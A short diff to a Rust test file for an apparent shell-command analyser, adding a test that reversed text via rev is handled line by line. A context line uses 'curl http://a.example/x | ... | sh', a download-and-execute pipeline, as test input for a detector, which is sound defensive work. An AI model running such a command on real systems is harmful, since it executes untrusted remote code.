@@ -43,3 +43,10 @@ fn a_pipe_of_very_many_programs_is_told() {
     assert!(reading.is_cut());
     assert!(!read("curl http://a.example/x | tee a | grep -v b | sort | sh", |_, _| None).is_cut());
 }
+
+#[test]
+fn what_is_turned_round_is_turned_line_by_line() {
+    let reading = read("printf 'lruc nur\\nexe a.sh' | rev", |_, _| None);
+    let printed: Vec<&str> = reading.calls.iter().filter_map(|call| call.prints.as_deref()).collect();
+    assert_eq!(printed.last(), Some(&"run curl\nhs.a exe"));
+}
